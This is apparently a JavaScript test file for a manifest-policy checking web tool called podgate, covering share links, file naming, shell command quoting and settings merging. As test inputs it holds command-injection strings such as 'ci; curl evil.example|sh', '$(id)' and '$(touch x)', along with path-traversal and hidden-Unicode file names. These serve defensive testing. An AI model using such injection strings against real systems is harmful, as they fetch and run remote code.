// What follows from the state, without a browser: links that are read, settings that are changed, words for a shell.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";

import { source } from "./source.js";

const load = source();

const STATE = { manifests: [{ source: "a.yaml", text: "kind: Pod\n" }], profiles: [], settings: "", policies: [] };

test("of a link only what is known is taken, and each name once", async () => {
  const { fromFragment, isLink, read, toFragment } = await load("state/share.ts");
  const given = {
    ...STATE,
    manifests: [{ source: "a.yaml", text: "1", note: "x" }, { source: "a.yaml", text: "2" }],
    policies: [{ path: "p.rego", text: "", more: 1 }, { path: "p.rego", text: "" }],
    profiles: ["pss-baseline:v1.29", "psp:restricted"],
    extra: true,
    view: "compare",
    shown: 1,
    columns: ["ci", "psp:baseline"],
    selected: { path: "p.rego", id: undefined },
  };
  const expected = {
    manifests: [{ source: "a.yaml", text: "1" }, { source: "a-2.yaml", text: "2" }],
    profiles: ["pss-baseline:v1.29", "psp:restricted"],
    settings: "",
    policies: [{ path: "p.rego", text: "" }, { path: "p-2.rego", text: "" }],
    view: "compare",
    shown: 1,
    columns: ["ci", "psp:baseline"],
    selected: { path: "p.rego" },
  };
  assert.deepEqual(read(given), expected);
  assert.deepEqual(await fromFragment(await toFragment(given)), expected);
  const start = { view: "check", shown: 0, columns: ["pss-baseline", "pss-restricted", "ci"], selected: undefined };
  assert.deepEqual(read(STATE), { ...STATE, ...start });
  await assert.rejects(fromFragment("#2.abcdef"), /^Error: it was made by another version of this page$/);
  for (const broken of ["#1.AAAA", "#1.%", (await toFragment(STATE)).slice(0, -9)]) {
    await assert.rejects(fromFragment(broken), /^Error: it is damaged, or only a part of it was copied$/, broken);
  }
  assert.deepEqual(["#1.a", "#2.a", "#main", ""].map(isLink), [true, true, false, false]);
});

test("what is no state, or names what does harm in a shell, is refused", async () => {
  const { read } = await load("state/share.ts");
  const wrong = [
    null, [], {}, { ...STATE, manifests: [] }, { ...STATE, manifests: [{ source: "a" }] }, { ...STATE, settings: null },
    { ...STATE, manifests: [{ source: "a\nb", text: "" }] }, { ...STATE, manifests: [{ source: "\u001b[2J", text: "" }] },
    { ...STATE, manifests: [{ source: "", text: "" }] }, { ...STATE, policies: [{ path: "a\rb", text: "" }] },
    { ...STATE, profiles: ["ci; curl evil.example|sh\n"] }, { ...STATE, profiles: ["$(id)"] }, { ...STATE, profiles: ["-x"] },
    { ...STATE, columns: ["a b"] }, { ...STATE, view: "else" }, { ...STATE, shown: 1 }, { ...STATE, shown: -1 }, { ...STATE, shown: 0.5 },
    { ...STATE, selected: {} }, { ...STATE, manifests: [{ source: "a\u202elmay.exe", text: "" }] },
    { ...STATE, policies: [{ path: "a\u200b.rego", text: "" }] }, { ...STATE, manifests: [{ source: "a".repeat(1025), text: "" }] },
  ];
  for (const value of wrong) assert.throws(() => read(value), /the link holds no state of this page/, JSON.stringify(value));
});

test("a link holds what a page can open, and one that holds more is neither made nor opened", async () => {
  const { fromFragment, read, toFragment } = await load("state/share.ts");
  const many = (count) => Array.from({ length: count }, () => ({ source: "a.yaml", text: "" }));
  const names = read({ ...STATE, manifests: many(500) }).manifests.map(({ source }) => source);
  assert.deepEqual([new Set(names).size, ...names.slice(0, 3), names.at(-1)], [500, "a.yaml", "a-2.yaml", "a-3.yaml", "a-500.yaml"]);
  assert.throws(() => read({ ...STATE, manifests: many(501) }), /the link holds 501 files, and at most 500 can be opened/);
  assert.throws(() => read({ ...STATE, policies: many(2000) }), /the link holds 2000 policies, and at most 500 can be opened/);
  assert.throws(() => read({ ...STATE, columns: Array(50).fill("ci") }), /the link holds 50 profiles side by side, and at most 8/);
  assert.deepEqual(read({ ...STATE, columns: [] }).columns, ["pss-baseline", "pss-restricted", "ci"]);
  await assert.rejects(toFragment({ ...STATE, manifests: many(501) }), /These are too many files for a link, which holds at most 500 of a kind/);
  const large = (text) => ({ ...STATE, manifests: [{ source: "a.yaml", text }] });
  await assert.rejects(toFragment(large("x".repeat(8 << 20))), /This is too large for a link, which holds at most 8 MB/);
  let [seed, noise] = [1, ""];
  while (noise.length < 2e6) noise += (seed = (seed * 48271) % 2147483647).toString(36);
  await assert.rejects(toFragment(large(noise)), /This is too large for a link: not every browser opens one that long/);
  const most = large("x".repeat((8 << 20) - 200));
  assert.equal((await fromFragment(await toFragment(most))).manifests[0].text, most.manifests[0].text);
});

test("names are given out once each, in a time that grows with their number", async () => {
  const { namer } = await load("state/state.ts");
  const nameOf = namer(["b_test.rego"]);
  assert.deepEqual(["a.yaml", "a.yaml", "a-2.yaml", "a.yaml", "b_test.rego", "c", "c"].map(nameOf), ["a.yaml", "a-2.yaml", "a-2-2.yaml", "a-3.yaml", "b-2_test.rego", "c", "c-2"]);
  let looked = 0;
  const has = Set.prototype.has;
  Set.prototype.has = function counted(one) { looked += 1; return has.call(this, one); };
  try {
    const next = namer();
    for (let count = 0; count < 2000; count += 1) next("a.yaml");
  } finally {
    Set.prototype.has = has;
  }
  assert.ok(looked < 10_000, `${looked} look-ups`);
});

test("what one does not see is shown in messages, and taken out of names", async () => {
  const { visible, withoutUnseen } = await load("state/visible.ts");
  const report = { findings: [{ message: "image \u202eb\u2066a\u200b\u0007\n\tend", line: 1 }], denied: true, none: null };
  assert.deepEqual(visible(report), { findings: [{ message: "image \\u{202e}b\\u{2066}a\\u{200b}\\u{7}\n\tend", line: 1 }], denied: true, none: null });
  assert.equal(withoutUnseen("a\u202elmay.\u00adexe\n"), "almay.exe");
});

test("exported files lie beside each other, and none is taken for what it is not", async () => {
  const { allFiles, command } = await load("state/files.ts");
  const { manifests, policies, profiles, settings } = await load("state/state.ts");
  const long = `${"d/".repeat(60)}`;
  const names = [
    "podgate.yaml", "PODGATE.YAML", "policies", "policies/x.rego", "-", "pod.yaml", "./pod.yaml", "../Pod.yaml", "pod.yaml/a.yaml", "a/b", "a",
    `${long}1/pod.yaml`, `${long}2/pod.yaml`, `x${"é".repeat(90)}.yaml`, `y${"é".repeat(90)}.yaml`,
  ];
  manifests.value = names.map((source) => ({ source, text: source }));
  settings.value = "profiles: [ci]\n";
  profiles.value = [];
  policies.value = ["a.rego", "./a.rego", "b_test.rego", "c.txt"].map((path) => ({ path, text: path }));
  const files = allFiles();
  assert.deepEqual(files.slice(0, 11).map(({ name }) => name), [
    "manifests/podgate.yaml", "manifests-PODGATE.YAML", "manifests/policies", "manifests-policies-x.rego", "manifests/-",
    "pod.yaml", "pod-2.yaml", "Pod-2-2.yaml", "pod.yaml-a.yaml", "a/b", "a-2",
  ]);
  const placed = files.map(({ name }) => name.toLowerCase());
  assert.equal(new Set(placed).size, names.length + 5);
  for (const name of placed) {
    assert.ok(new TextEncoder().encode(name).length <= 100 && !name.startsWith("/"), name);
    assert.ok(!placed.some((other) => other.startsWith(`${name}/`)), name);
  }
  assert.deepEqual(files.filter(({ name }) => !name.startsWith("policies/")).map(({ text }) => text), [...names, settings.value]);
  assert.deepEqual(placed.filter((name) => name.startsWith("policies/")), ["policies/a.rego", "policies/a-2.rego", "policies/b_test.rego", "policies/c.txt.rego"]);
  const printed = execFileSync("sh", ["-c", `podgate() { printf '%s\\n' "$@"; }\n${command()}`], { encoding: "utf8" }).split("\n").slice(0, -1);
  assert.deepEqual(printed.slice(0, 5), ["check", "--settings", "podgate.yaml", "--policies", "policies/"]);
  assert.deepEqual(printed.slice(5), files.slice(0, names.length).map(({ name }) => name));
});

test("two copies of a policy have names and ids of their own", async () => {
  const { copyPolicy, idOf } = await load("state/rego.ts");
  const { policies } = await load("state/state.ts");
  policies.value = [];
  const policy = { id: "CI201", path: "ci/privileged/privileged.rego", rego: "# METADATA\n# custom:\n#   id: CI201\n#   name: privileged\npackage podgate.ci.privileged\n" };
  assert.deepEqual([copyPolicy(policy), copyPolicy(policy)], ["my_privileged.rego", "my_privileged-2.rego"]);
  assert.deepEqual(policies.value.map(({ text }) => [idOf(text), /^package (.*)/m.exec(text)[1]]), [["MY-CI201", "mine.my_privileged"], ["MY-CI201-2", "mine.my_privileged_2"]]);
});

test("a shell reads the command as it is meant, whatever files are called", async () => {
  const { command } = await load("state/files.ts");
  const { manifests, policies, profiles, settings } = await load("state/state.ts");
  const words = () => execFileSync("sh", ["-c", `podgate() { printf '%s\\n' "$@"; }\n${command()}`], { encoding: "utf8" }).split("\n").slice(0, -1);
  const names = ["--output=json=x", "a b.yaml", "it's.yaml", "$(touch x)", "`id`", "a;b|c&d", "*.yaml", "~", "ä.yaml", "=ls"];
  manifests.value = names.map((source) => ({ source, text: "" }));
  // From a link they would be refused; here a shell must not run them either.
  profiles.value = ["ci; echo evil", "pss-restricted:v1.24"];
  settings.value = "profiles: [ci]\n";
  policies.value = [{ path: "a.rego", text: "" }];
  const options = ["check", "--profile", "ci; echo evil", "--profile", "pss-restricted:v1.24", "--settings", "podgate.yaml", "--policies", "policies/"];
  assert.deepEqual(words(), [...options, "--", ...names]);
  manifests.value = [{ source: "../../etc/pod.yaml", text: "" }];
  assert.deepEqual(words(), [...options, "etc/pod.yaml"]);
});

const PROFILES = [
  ["", 'profiles: [ci, pss-restricted:v1.24]\n'],
  ["# why\n\n# else\npolicies:\n  CI101:\n    mode: off # here\n", '# why\n\n# else\npolicies:\n  CI101:\n    mode: off # here\nprofiles: [ci, pss-restricted:v1.24]\n'],
  ["profiles: [\n  pss-baseline,\n  psp:baseline\n]\nexemptions: []\n", 'profiles: [ci, pss-restricted:v1.24]\nexemptions: []\n'],
  ["profiles:\n  - pss-baseline\n\n  # the second\n  - ci\npolicies: {}\n", 'profiles: [ci, pss-restricted:v1.24]\npolicies: {}\n'],
  ['{\n  "profiles": ["ci"],\n  "policies": {"CI101": {"mode": "off"}}\n}\n', { profiles: ["ci", "pss-restricted:v1.24"], policies: { CI101: { mode: "off" } } }],
];

const OFF = [
  ["", "policies:\n  CI201:\n    mode: off\n"],
  ["policies:\n", "policies:\n  CI201:\n    mode: off\n"],
  ["policies: {CI101: {mode: warn}} # all\n", "policies: {CI101: {mode: warn}, CI201: {mode: off}} # all\n"],
  ["policies:\n  CI201: # ours\n    severity: low\n  CI101:\n    mode: warn\n", "policies:\n  CI201:\n    # ours\n    severity: low\n    mode: off\n  CI101:\n    mode: warn\n"],
  ["policies:\n  CI201: { mode: warn }\n", "policies:\n  CI201: {mode: off}\n"],
  ['{"profiles": ["ci"]}', { profiles: ["ci"], policies: { CI201: { mode: "off" } } }],
];

/** JSON stays JSON, and YAML is the very text. */
function same(made, expected, text) {
  if (typeof expected === "string") assert.equal(made, expected, text);
  else assert.deepEqual(JSON.parse(made), expected, text);
}

test("settings are changed where they are, and the rest stays, comments and all", async () => {
  const { merged, withProfiles } = await load("state/settings-file.ts");
  for (const [text, expected] of PROFILES) same(await withProfiles(text, ["ci", "pss-restricted:v1.24"]), expected, text);
  for (const [text, expected] of OFF) same(await merged(text, { policies: { CI201: { mode: "off" } } }), expected, text);
  const more = await merged("exemptions:\n  - policies: [CI101] # a\n", { exemptions: [{ policies: ["CI104"], reason: "b" }] });
  assert.equal(more, "exemptions:\n  - policies: [CI101] # a\n  - policies: [CI104]\n    reason: b\n");
  const twice = { policies: { CI506: { parameters: { registries: ["a/b"] } } }, exemptions: [{ policies: ["CI104"], match: { kinds: ["Pod"] } }] };
  const once = await merged("policies:\n  CI506: {parameters: {registries: [c]}}\n", twice);
  assert.equal(once, "policies:\n  CI506: {parameters: {registries: [c, a/b]}}\nexemptions:\n  - policies: [CI104]\n    match:\n      kinds: [Pod]\n");
  assert.equal(await merged(once, twice), once);
  for (const broken of ["policies: [", "just words", "- a\n"]) await assert.rejects(merged(broken, { policies: { CI201: { mode: "off" } } }), broken);
});

const REPORT = {
  subjects: [{}], findings: [], notEvaluated: [], failedPolicies: [], exempted: [],
  summary: { denied: false, exempted: 0, failedPolicies: 0, findings: { critical: 0, high: 0, medium: 0, low: 0, info: 0 }, notEvaluated: 0, subjects: 1 },
};

test("clean is only where everything was judged and nothing was found", async () => {
  const { verdictOf } = await load("state/verdict.ts");
  const of = (report, summary = {}, { off = [], isIdle = false, missed = [] } = {}) => {
    const judged = { report: { ...REPORT, ...report, summary: { ...REPORT.summary, ...summary } }, off, isIdle };
    const { tone, title, missing } = verdictOf(judged, missed);
    return [tone, title, ...missing];
  };
  const counts = (more) => ({ findings: { ...REPORT.summary.findings, ...more } });
  const [denies, warns, audits] = ["deny", "warn", "audit"].map((action) => ({ findings: [{ action }] }));
  const gap = { notEvaluated: [{ cause: "unreadable" }] };
  assert.deepEqual(of({}), ["clean", "Clean"]);
  assert.deepEqual(of({ notEvaluated: [{ cause: "empty" }] }), ["clean", "Clean"]);
  assert.deepEqual(of({ subjects: [] }), ["none", "Nothing to judge"]);
  assert.deepEqual(of({}, { exempted: 2 }), ["none", "Clean, 2 exempted"]);
  assert.deepEqual(of({}, {}, { off: ["CI101"] }), ["none", "Clean, with 1 policy switched off"]);
  assert.deepEqual(of(audits, counts({ low: 1 }), { off: ["CI101"] }), ["none", "Passes"]);
  assert.deepEqual(of({}, {}, { off: ["CI101", "CI102"], isIdle: true }), ["none", "No policy judges"]);
  assert.deepEqual(of({}, {}, { missed: [{ name: "big.yaml" }] }), ["none", "Not all could be judged", "1 file not read"]);
  assert.deepEqual(of(gap), ["none", "Not all could be judged", "1 not evaluated"]);
  assert.deepEqual(of({ subjects: [] }, { failedPolicies: 1 }), ["none", "Not all could be judged", "1 policy failed"]);
  assert.deepEqual(of(denies, { denied: true, ...counts({ high: 1 }) }), ["denied", "Refused"]);
  assert.deepEqual(of(warns, counts({ high: 1 })), ["warned", "Passes with warnings"]);
  assert.deepEqual(of(audits, counts({ low: 1 })), ["clean", "Passes"]);
  assert.deepEqual(of({ ...audits, ...gap }, counts({ low: 1 })), ["none", "Passes, as far as it could be judged", "1 not evaluated"]);
  assert.deepEqual(of({ ...denies, ...gap }, { denied: true, ...counts({ high: 1 }) }), ["denied", "Refused, as far as it could be judged", "1 not evaluated"]);
});

test("a file is called by what the report says of it, and else by what it is written in", async () => {
  const { formatKind, kindsOf } = await load("state/kinds.ts");
  const subjects = [
    { source: "a", kind: "Jenkinsfile", platform: "jenkins" }, { source: "a", kind: "Jenkinsfile", platform: "jenkins" },
    { source: "b", kind: "Deployment" }, { source: "b", kind: "Pod" }, { source: "b", kind: "Pod" },
    { source: "c", kind: "Task", platform: "tekton" }, { source: "c", kind: "ConfigMap", platform: "tekton" },
    { source: "d", kind: "GitLabJob", platform: "gitlab" }, { source: "e", kind: "Thing", platform: "newer" }, { source: "f", kind: "" },
  ];
  const withoutPod = [{ source: "b", kind: "Service" }, { source: "g", kind: "GitLabPipeline" }, { source: "h", kind: "ConfigMap" }];
  assert.deepEqual([...kindsOf({ subjects, withoutPod })].map(([source, { label, title }]) => [source, label, title]), [
    ["a", "Jenkinsfile", "Jenkinsfile"], ["b", "Deployment +2", "Deployment, Pod, Service"], ["c", "Tekton", "Task, ConfigMap"],
    ["d", "GitLab CI", "GitLabJob"], ["e", "newer", "Thing"], ["g", "GitLab CI", "GitLabPipeline"], ["h", "ConfigMap", "ConfigMap"],
  ]);
  assert.deepEqual(["jenkinsfile", "toml", "xml", "yaml", undefined].map((format) => formatKind(format)?.label), ["Groovy", "TOML", "XML", undefined, undefined]);
});

test("fields of a pod are offered where an object may be one", async () => {
  const { objectAround } = await load("editor/object-around.ts");
  const { Text } = await import("@codemirror/state");
  const shapes = { Pod: { spec: ["PodSpec", ""] }, Job: { spec: ["JobSpec", ""] } };
  const at = (text, line = 1) => objectAround(shapes, Text.of(text.split("\n")), line)?.kind;
  assert.deepEqual(["", "spec:", "metadata: {name: a}\nspec:", "# a: b\n\n- x"].map((text) => at(text)), ["Pod", "Pod", "Pod", "Pod"]);
  assert.deepEqual([at("kind: Job\nstages: []"), at("stages: []\nkind: \"Job\"")], ["Job", "Job"]);
  assert.deepEqual(["stages: [a]", "\"on\": push", "build:\n  spec: a", "spec: a\njobs:"].map((text) => at(text)), [undefined, undefined, undefined, undefined]);
  assert.deepEqual([at("stages: []\n---\nspec:", 3), at("stages: []\n---\nspec:", 1)], ["Pod", undefined]);
});

test("a file is called something else, never like another and never nothing", async () => {
  const { rename, start } = await load("state/files.ts");
  const { example, manifests, shown } = await load("state/state.ts");
  manifests.value = [{ source: "a.yaml", text: "1" }, { source: "b.yaml", text: "2" }];
  const names = () => manifests.value.map(({ source, text }) => `${source} ${text}`);
  example.value = "ko";
  for (const nothing of ["", "  ", "a.yaml", "\u202e"]) rename("a.yaml", nothing);
  assert.deepEqual([names(), example.value], [["a.yaml 1", "b.yaml 2"], "ko"]);
  rename("a.yaml", " b.yaml\n");
  assert.deepEqual([names(), example.value], [["b-2.yaml 1", "b.yaml 2"], undefined]);
  rename("b-2.yaml", "x".repeat(2000));
  assert.equal(manifests.value[0].source.length, 1024);
  start("b.yaml");
  assert.deepEqual([manifests.value.map(({ source }) => source).slice(1), shown.value], [["b.yaml", "b-2.yaml"], 2]);
});
